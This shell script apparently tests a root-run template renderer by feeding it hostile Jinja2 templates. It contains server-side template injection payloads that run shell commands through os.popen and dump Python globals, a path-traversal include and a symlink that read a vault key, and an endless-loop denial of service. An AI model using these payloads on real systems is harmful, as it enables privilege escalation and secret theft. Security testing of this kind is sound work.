# First step: templates of the user's, which root renders with, reach for Python's insides.
. "$(dirname "$0")/lib.sh"
own=$HOME/attack.own
mkdir -p "$own/nginx" "$own/supervisor" "$own/systemd"
one() { # NAME TARGET TEXT
    printf '%s\n' "$3" >"$own/$1"
    root render -t "$2" -C "$BENCH" --templates "$own"
    rm "$own/$1"
}
one supervisor/bench.conf supervisor '{{ cycler.__init__.__globals__.os.popen("id -u >>/home/frappe/loot").read() }}'
one supervisor/bench.conf supervisor "{{ ''.__class__.__mro__[1].__subclasses__() }}"
one systemd/unit.service systemd '{{ lipsum.__globals__ }}'
one nginx/listen.conf nginx '{% include "../../../../srv/vault/open/key" %}'
one nginx/listen.conf nginx '{% for x in range(10**12) %}{{ x }}{% endfor %}'
root templates diff "$own"
ln -s "$VAULT/open/key" "$own/nginx/listen.conf"
root render -t nginx -C "$BENCH" --templates "$own"
